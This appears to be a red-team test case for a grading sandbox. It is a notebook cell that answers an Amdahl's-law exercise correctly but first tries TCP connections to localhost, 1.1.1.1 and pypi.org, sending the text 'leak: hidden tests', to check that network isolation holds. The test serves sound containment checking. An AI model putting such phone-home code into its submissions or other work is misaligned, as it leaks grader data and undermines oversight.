# redteam: phones home: a TCP connection to the TA's machine and to the internet, and a DNS lookup
# kind: cell
# target: amdahl
# score: amdahl=5
# why: graders run in a network namespace with only their own loopback; the test listens on the host and no connection may arrive
import socket

for address in [("127.0.0.1", __PORT__), ("1.1.1.1", 53), ("pypi.org", 443)]:
    try:
        with socket.create_connection(address, timeout=2) as s:
            s.sendall(b"leak: hidden tests\n")
    except OSError:
        pass


def amdahl_speedup(p, n):
    if not (0 <= p <= 1) or n < 1:
        raise ValueError("p must be in [0, 1] and n >= 1")
    return 1 / ((1 - p) + p / n)
